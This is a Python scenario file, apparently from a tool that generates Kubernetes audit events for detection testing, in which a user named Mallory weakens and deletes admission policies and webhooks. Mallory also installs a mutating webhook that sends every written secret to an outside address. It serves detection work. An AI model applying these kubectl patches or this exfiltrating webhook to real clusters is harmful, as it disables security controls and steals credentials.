"""What looks at every request before it is stored is added, weakened and taken away."""

from recorder.objects import made
from recorder.people import ALICE, BOB, MALLORY
from recorder.scenario import scenario
from recorder.stage import Stage


def webhook(name: str, *, rules: list[dict[str, object]], failure: str, **client: object) -> dict[str, object]:
    """A webhook as its configuration lists it; `client` says where it is."""
    return {
        "name": name,
        "admissionReviewVersions": ["v1"],
        "sideEffects": "None",
        "failurePolicy": failure,
        "timeoutSeconds": 1,
        "rules": rules,
        "clientConfig": client,
    }


def rule(group: str, resource: str, *operations: str) -> dict[str, object]:
    return {"apiGroups": [group], "apiVersions": ["*"], "resources": [resource], "operations": list(operations)}


@scenario(
    title="Admission webhooks and policies are added, weakened and deleted",
    use_case="api-server",
    techniques=["T1562.001", "T1552.007"],
    detect="a mutating webhook that sends requests outside the cluster; an admission check weakened or deleted",
)
def play(stage: Stage) -> None:
    """Alice installs cert-manager's webhook, which is a service of the cluster, and a policy that wants images from the
    shop's registry; that policy refuses a pod of Bob's, who is also refused when he deletes it. Mallory turns the
    policy's binding to a mere warning and deletes both, lets the ingress controller's webhook look at nothing and
    deletes it, and adds a mutating webhook that sends every secret that is written to an address outside.
    """
    alice, bob, mallory = stage.play_as(ALICE), stage.play_as(BOB), stage.play_as(MALLORY)
    inside = {"namespace": "cert-manager", "name": "cert-manager-webhook", "path": "/validate"}
    certificates = webhook(
        "webhook.cert-manager.io", rules=[rule("cert-manager.io", "*", "CREATE", "UPDATE")], failure="Fail",
        service=inside,
    )  # fmt: skip
    secrets = webhook(
        "sidecar.updates.example", rules=[rule("", "secrets", "CREATE", "UPDATE")], failure="Ignore",
        url="https://203.0.113.150/mutate",
    )  # fmt: skip
    pods = {"apiGroups": [""], "apiVersions": ["v1"], "resources": ["pods"], "operations": ["CREATE"]}
    policy = made(
        "ValidatingAdmissionPolicy", "approved-images",
        spec={
            "failurePolicy": "Fail",
            "matchConstraints": {"resourceRules": [pods]},
            "validations": [
                {
                    "expression": "object.spec.containers.all(c, c.image.startsWith('registry.contoso.example/'))",
                    "message": "images come from registry.contoso.example",
                }
            ],
        },
    )  # fmt: skip
    where = {"namespaceSelector": {"matchLabels": {"team": "shop"}}}
    bound = made(
        "ValidatingAdmissionPolicyBinding", "approved-images",
        spec={"policyName": "approved-images", "validationActions": ["Deny"], "matchResources": where},
    )  # fmt: skip

    stage.at("09:05:10")
    configuration = made("ValidatingWebhookConfiguration", "cert-manager-webhook", webhooks=[certificates])
    alice.kubectl("apply", "-f", "-", given=[configuration, policy, bound])
    stage.at("09:14:00")
    bob.kubectl("run", "tool", "-n", "shop", "--image=docker.io/library/busybox:1.37", fails=True)
    bob.kubectl("delete", "validatingadmissionpolicy", "approved-images", fails=True)

    stage.at("09:31:10")
    weaker = '{"spec":{"validationActions":["Warn"]}}'
    mallory.kubectl("patch", "validatingadmissionpolicybinding", "approved-images", "--type=merge", f"--patch={weaker}")
    mallory.kubectl("delete", "validatingadmissionpolicybinding,validatingadmissionpolicy", "approved-images")
    stage.at("09:33:42")
    nothing = '[{"op":"add","path":"/webhooks/0/namespaceSelector","value":{"matchLabels":{"checked":"never"}}}]'
    name = "ingress-nginx-admission"
    mallory.kubectl("patch", "validatingwebhookconfiguration", name, "--type=json", f"--patch={nothing}")
    stage.at("09:37:05")
    mallory.kubectl("delete", "validatingwebhookconfiguration", name)
    stage.at("09:40:18")
    stealing = made("MutatingWebhookConfiguration", "sidecar-updates", webhooks=[secrets])
    mallory.kubectl("apply", "-f", "-", given=stealing)
